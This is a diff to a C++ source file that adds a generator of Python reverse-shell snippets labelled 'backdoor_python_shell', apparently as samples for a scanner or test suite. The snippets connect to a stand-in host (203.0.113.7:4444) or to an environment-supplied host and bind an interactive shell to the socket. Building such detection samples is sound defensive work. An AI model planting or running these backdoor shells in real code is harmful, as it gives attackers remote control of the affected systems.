@@ -104,6 +104,20 @@ std::vector<Variation> shells() {
             import + connect + "[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\npty.spawn('/bin/bash')\n",
             import + connect + "for fd in range(3):\n  os.dup2(s.fileno(), fd)\npty.spawn(\"sh\")\n"});
   made.insert(made.end(), python.begin(), python.end());
+  const std::string under = "os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\n";
+  const auto variable =
+      rows("backdoor_python_shell", "srv/app/tasks.py",
+           {import + "HOST='203.0.113.7'\nPORT=4444\ns.connect((HOST,PORT))\n" + under +
+                "p=subprocess.call(['/bin/sh','-i'])\n",
+            "s = socket.socket()\ns.connect( (target.host, int(target.port)) )\nfor f in range(3):\n    "
+            "os.dup2( s.fileno(), f )\n"
+            "os.execl(\"/bin/bash\", \"bash\", \"-i\")\n",
+            import + "s.connect((os.getenv(\"RHOST\"),int(os.getenv(\"RPORT\"))))\n" +
+                "[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\npty.spawn(\"sh\")\n",
+            kShell + "python3 -c 'import "
+                     "socket,os,pty;conn=socket.create_connection((H,p));os.dup2(conn.fileno(),0);"
+                     "os.dup2(conn.fileno(),1);pty.spawn(\"/bin/sh\")'\n"});
+  made.insert(made.end(), variable.begin(), variable.end());
   return made;
 }
 
